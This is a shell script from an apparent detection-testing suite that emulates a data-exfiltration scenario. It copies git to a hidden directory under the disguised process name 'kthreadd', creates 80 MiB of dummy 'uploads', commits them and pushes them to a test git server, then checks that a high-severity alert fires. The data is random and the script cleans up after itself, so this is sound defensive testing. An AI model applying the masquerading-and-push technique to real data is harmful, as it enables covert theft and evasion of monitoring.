#!/bin/sh
# Emulates scenario git-renamed-binary-bulk (examples/scenarios/git-renamed-binary-bulk.yaml):
# git copied to an innocuous name pushes 80 MiB of uploads.
#
# The copy lives in the work directory (not /var/tmp) so the script cleans up after itself.
# Safe version: random "uploads", in-namespace git server.
#
# Image: alpine/git:2.47.2
# Expected alert: bulk-read-then-push, severity high
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need git head
work="$EMU_WORKDIR/git-renamed-binary-bulk"
rm -rf "$work"
mkdir -p "$work/.cache"
cp "$(command -v git)" "$work/.cache/kthreadd"
emu_dummy_files "$work/uploads/2025" 180 80
cd "$work/uploads"
"$work/.cache/kthreadd" init -q
"$work/.cache/kthreadd" config user.email emulation@example.invalid
"$work/.cache/kthreadd" config user.name "exfilwatch emulation"
"$work/.cache/kthreadd" add -A
"$work/.cache/kthreadd" commit -qm u
emu_git_push "$work/uploads" "$EMU_GIT_URL" "$work/.cache/kthreadd"
cd /
rm -rf "$work"
emu_expect bulk-read-then-push high
